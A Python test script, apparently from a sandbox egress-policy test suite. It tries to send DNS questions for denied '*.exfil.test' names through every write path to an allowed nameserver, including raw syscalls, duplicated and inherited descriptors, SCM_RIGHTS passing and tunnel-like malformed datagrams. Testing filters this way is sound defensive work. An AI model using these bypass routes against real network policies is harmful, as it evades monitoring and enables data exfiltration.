"""Raw DNS to an allowed nameserver, whichever call writes it — tried as a pure-Python dependency can.

A UDP socket connected to NAMESERVER:53 (allowed by the policy) carries a question for a denied name
(`<case>.exfil.test`) through every call that can write a datagram: write, writev, pwritev2, sendfile (with and
without an offset), splice, their syscall() forms, copies made with dup/dup2/fcntl, a child that inherited the socket
across exec, a process that received it as SCM_RIGHTS. Then datagrams outside the query grammar (several or no
questions, trailing bytes, a response, EDNS options a real client does not send, too long), and allowed questions
through the same calls (they must work). Prints {"case", "rc", "errno"} per attempt; ends with `sentinel:<tag>`.

usage: socket_dns.py TAG ALLOWED NAMESERVER SINK
       socket_dns.py child-write FD NAME        (run by the parent: write a question on an inherited descriptor)
       socket_dns.py child-rights SOCKFD NAME   (run by the parent: receive a descriptor as SCM_RIGHTS, write on it)
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import functools
import json
import os
import platform
import socket
import struct
import subprocess
import sys
import tempfile
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.syscall.argtypes = [ctypes.c_long] * 7
libc.pwritev2.restype = ctypes.c_ssize_t
libc.pwritev2.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_int]

SYS = {
    "x86_64": {"write": 1, "writev": 20, "sendfile": 40, "splice": 275, "pwritev2": 328},
    "aarch64": {"write": 64, "writev": 66, "sendfile": 71, "splice": 76, "pwritev2": 287},
}[platform.machine()]


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def question(name: str, qtype: int = 1) -> bytes:
    out = b""
    for label in name.split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0" + struct.pack(">HH", qtype, 1)


def query(name: str, flags: int = 0x0100, qd: int = 1, ar: int = 0, extra: bytes = b"") -> bytes:
    body = question(name) * qd
    return struct.pack(">HHHHHH", 0x4547, flags, qd, 0, 0, ar) + body + extra


def opt(options: bytes) -> bytes:
    return b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(options)) + options


def report(case: str, rc: int, err: int = 0) -> None:
    e = errno.errorcode.get(err, str(err)) if rc < 0 else None
    print(json.dumps({"case": case, "rc": rc, "errno": e}), flush=True)


def attempt(case: str, fn: Callable[[], object]) -> None:
    try:
        rc = fn()
        report(case, rc if isinstance(rc, int) else 0)
    except OSError as e:
        report(case, -1, e.errno or 0)


def connected(ns: str) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((ns, 53))
    return s


def c_syscall(nr: int, *args: int) -> int:
    words = [*args, 0, 0, 0, 0, 0, 0][:6]
    ctypes.set_errno(0)
    r = libc.syscall(nr, *words)
    if r < 0:
        raise OSError(ctypes.get_errno(), "syscall")
    return int(r)


def iovecs(parts: list[bytes]) -> tuple[ctypes.Array[IoVec], list[ctypes.Array[ctypes.c_char]]]:
    bufs = [ctypes.create_string_buffer(p, len(p)) for p in parts]
    arr = (IoVec * len(parts))(
        *[IoVec(ctypes.cast(b, ctypes.c_void_p), len(p)) for b, p in zip(bufs, parts, strict=True)]
    )
    return arr, bufs


def in_file(data: bytes) -> int:
    f = tempfile.TemporaryFile()  # noqa: SIM115 — left open on purpose: the caller reads it through fileno()
    f.write(data)
    f.flush()
    f.seek(0)
    return os.dup(f.fileno())


def in_pipe(data: bytes) -> int:
    r, w = os.pipe()
    os.write(w, data)
    os.close(w)
    return r


def through_calls(tag: str, ns: str, name_of: Callable[[str], str]) -> None:
    """Every write-family way onto a connected port-53 socket; name_of(case) is the question asked."""
    pre = f"{tag}-"

    def q(case: str) -> bytes:
        return query(name_of(pre + case))

    s = connected(ns)
    fd = s.fileno()
    attempt(pre + "write", lambda: os.write(fd, q("write")))
    attempt(pre + "writev", lambda: os.writev(fd, [q("writev")[:5], q("writev")[5:]]))

    def pwritev2() -> int:
        data = q("pwritev2")
        arr, _keep = iovecs([data[:7], data[7:]])  # _keep: the buffers must outlive the call
        ctypes.set_errno(0)
        r = libc.pwritev2(fd, arr, 2, -1, 0)
        if r < 0:
            raise OSError(ctypes.get_errno(), "pwritev2")
        return int(r)

    attempt(pre + "pwritev2", pwritev2)
    attempt(pre + "sendfile-offset", lambda: os.sendfile(fd, in_file(q("sendfile-offset")), 0, 4096))
    attempt(pre + "sendfile", lambda: os.sendfile(fd, in_file(q("sendfile")), None, 4096))
    attempt(pre + "splice", lambda: os.splice(in_pipe(q("splice")), fd, 4096))
    attempt(pre + "dup", lambda: os.write(os.dup(fd), q("dup")))
    attempt(pre + "dup2", lambda: os.write(os.dup2(fd, 200), q("dup2")))
    attempt(pre + "fcntl-dupfd", lambda: os.write(fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 300), q("fcntl-dupfd")))
    attempt(pre + "socket-fileno", lambda: socket.socket(fileno=os.dup(fd)).send(q("socket-fileno")))

    def sys_write() -> int:
        data = ctypes.create_string_buffer(q("syscall-write"))
        return c_syscall(SYS["write"], fd, ctypes.addressof(data), len(data.raw) - 1)

    def sys_writev() -> int:
        arr, _keep = iovecs([q("syscall-writev")])
        return c_syscall(SYS["writev"], fd, ctypes.addressof(arr), 1)

    def sys_pwritev2() -> int:
        arr, _keep = iovecs([q("syscall-pwritev2")])
        return c_syscall(SYS["pwritev2"], fd, ctypes.addressof(arr), 1, -1, 0, 0)

    def sys_sendfile() -> int:
        return c_syscall(SYS["sendfile"], fd, in_file(q("syscall-sendfile")), 0, 4096)

    def sys_splice() -> int:
        return c_syscall(SYS["splice"], in_pipe(q("syscall-splice")), 0, fd, 0, 4096, 0)

    for case, fn in [
        ("syscall-write", sys_write),
        ("syscall-writev", sys_writev),
        ("syscall-pwritev2", sys_pwritev2),
        ("syscall-sendfile", sys_sendfile),
        ("syscall-splice", sys_splice),
    ]:
        attempt(pre + case, fn)


def main() -> None:
    if sys.argv[1] == "child-write":
        fd, name = int(sys.argv[2]), sys.argv[3]
        attempt("inherited", lambda: os.write(fd, query(name)))
        return
    if sys.argv[1] == "child-rights":
        carrier = socket.socket(fileno=int(sys.argv[2]))
        _, fds, _, _ = socket.recv_fds(carrier, 16, 1)
        attempt("scm-rights", lambda: os.write(fds[0], query(sys.argv[3])))
        return
    tag, allowed, ns, sink = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    # 1. a denied name through every call, then the allowed name through the same calls (they must work)
    through_calls("denied", ns, lambda case: f"{case}.exfil.test")
    through_calls("allowed", ns, lambda case: "allowed.test")
    # 2. a socket handed to another program: inherited across exec, and passed as SCM_RIGHTS
    s = connected(ns)
    os.set_inheritable(s.fileno(), True)
    me = os.path.abspath(__file__)
    out = subprocess.run(
        [sys.executable, me, "child-write", str(s.fileno()), "inherited.exfil.test"],
        pass_fds=(s.fileno(),),
        capture_output=True,
        text=True,
        check=False,
    )
    sys.stdout.write(out.stdout)
    a, b = socket.socketpair()
    child = subprocess.Popen(
        [sys.executable, me, "child-rights", str(b.fileno()), "rights.exfil.test"], pass_fds=(b.fileno(),)
    )
    carried = connected(ns)
    socket.send_fds(a, [b"x"], [carried.fileno()])
    child.wait()
    # 3. datagrams outside the query grammar, for the allowed name
    d = connected(ns)
    grammar = {
        "two-questions": query("allowed.test", qd=2),
        "no-question": query("allowed.test", qd=0),
        "trailing-byte": query("allowed.test") + b"\0",
        "response": query("allowed.test", flags=0x8180),
        "update": query("allowed.test", flags=0x2800),
        "ecs-option": query("allowed.test", ar=1, extra=opt(struct.pack(">HHHBB", 8, 8, 1, 32, 0) + b"\x0a\x59\0\x02")),
        "padding-with-data": query("allowed.test", ar=1, extra=opt(struct.pack(">HH", 12, 4) + b"DATA")),
        "too-long": query("allowed.test", ar=1, extra=opt(struct.pack(">HH", 12, 500) + b"\0" * 500)),
        "tunnel-bytes": b"\x00" * 3 + b"not a dns message at all",
    }
    for case, data in grammar.items():
        attempt(f"grammar-{case}", functools.partial(d.send, data))
    # 4. what real clients send passes: an EDNS query with a cookie and padding, as c-ares and dig send
    cookie = struct.pack(">HH", 10, 8) + b"\x01\x02\x03\x04\x05\x06\x07\x08"
    padded = opt(cookie + struct.pack(">HH", 12, 16) + b"\0" * 16)
    attempt("grammar-edns-cookie-padding", lambda: d.send(query("allowed.test", ar=1, extra=padded)))
    # 5. dnspython (its UDP query: sendto with the nameserver's address)
    try:
        import dns.message
        import dns.query

        reply = dns.query.udp(dns.message.make_query("allowed.test", "A", use_edns=0), ns, timeout=3)
        report("dnspython-allowed", len(reply.answer))
    except OSError as e:
        report("dnspython-allowed", -1, e.errno or 0)
    try:
        dns.query.udp(dns.message.make_query("dnspython.exfil.test", "A"), ns, timeout=3)
        report("dnspython-denied", 0)
    except OSError as e:
        report("dnspython-denied", -1, e.errno or 0)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(0.2)
    for _ in range(50):
        u.sendto(f"sentinel:{tag}".encode(), (allowed, sink))
        try:
            if u.recv(512).startswith(b"ack:sentinel"):
                break
        except TimeoutError:
            continue


if __name__ == "__main__":
    main()
